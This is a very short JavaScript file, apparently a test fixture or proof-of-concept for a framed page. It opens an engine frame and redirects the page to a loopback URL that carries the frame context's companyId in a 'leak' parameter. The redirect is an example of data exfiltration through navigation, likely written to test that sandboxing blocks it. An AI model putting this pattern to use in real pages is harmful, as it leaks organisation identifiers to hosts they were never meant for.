// A page that leads its own frame away, with what it was told.
import { openFrame } from './engine-frame.js'

const frame = await openFrame()
location.href = `http://127.0.0.1:1/left?leak=${frame.context.companyId}`
